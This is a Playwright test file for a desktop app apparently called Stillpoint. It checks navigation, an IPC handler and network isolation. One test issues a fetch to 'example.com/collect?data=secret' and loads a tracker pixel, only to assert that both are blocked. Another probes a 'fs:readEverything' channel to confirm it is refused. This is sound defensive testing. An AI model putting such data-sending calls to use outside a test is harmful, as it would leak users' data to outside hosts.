import { expect, test } from './fixtures';

test('moves between the three sections with the mouse and the keyboard', async ({ page }) => {
  const nav = page.getByRole('navigation', { name: 'Sections' });
  await expect(page.getByRole('heading', { level: 1, name: 'Clients' })).toBeVisible();

  await nav.getByRole('link', { name: 'Settings' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Settings' })).toBeVisible();
  await expect(nav.getByRole('link', { name: 'Settings' })).toHaveAttribute('aria-current', 'page');

  await nav.getByRole('link', { name: 'Backup' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Backup' })).toBeVisible();

  await page.keyboard.press('Control+1');
  await expect(page.getByRole('heading', { level: 1, name: 'Clients' })).toBeVisible();
});

test('app:info answers through the real main-process handler', async ({ page, harness }) => {
  await page.getByRole('navigation', { name: 'Sections' }).getByRole('link', { name: 'Settings' }).click();
  await expect(page.getByTestId('data-location')).toHaveText(harness.userDataDir);
  await expect(page.getByTestId('app-version')).toHaveText(/^\d+\.\d+\.\d+/);
});

test('nothing leaves the app: an outside fetch fails and every request stayed on the app origin', async ({
  page,
  harness,
}) => {
  for (const section of ['Settings', 'Backup', 'Clients']) {
    await page.getByRole('navigation', { name: 'Sections' }).getByRole('link', { name: section }).click();
    await expect(page.getByRole('heading', { level: 1, name: section })).toBeVisible();
  }
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('https://example.com/collect?data=secret');
      return 'reached';
    } catch (error) {
      return `failed: ${String(error)}`;
    }
  });
  expect(outcome).toMatch(/^failed/);
  const image = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const img = new Image();
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('blocked');
        img.src = 'https://tracker.example.net/pixel.png';
      }),
  );
  expect(image).toBe('blocked');
  const outside = harness.requests().filter((url) => !url.startsWith('https://stillpoint.test/'));
  expect(outside).toEqual([]);
});

test('a call from outside the app is refused, and a bad payload gets a clear code', async ({
  page,
  harness,
}) => {
  const bad = await page.evaluate(() =>
    (
      window as unknown as { __stillpointInvoke: (n: string, p: unknown) => Promise<unknown> }
    ).__stillpointInvoke('app:info', { unexpected: true }),
  );
  expect(bad).toMatchObject({ ok: false, error: { code: 'INVALID_REQUEST' } });
  const unknown = await page.evaluate(() =>
    (
      window as unknown as { __stillpointInvoke: (n: string, p: unknown) => Promise<unknown> }
    ).__stillpointInvoke('fs:readEverything', undefined),
  );
  expect(unknown).toMatchObject({ ok: false, error: { code: 'UNKNOWN_CHANNEL' } });
  expect(harness.securityLog.some((line) => line.startsWith('unknown-channel'))).toBe(true);
});
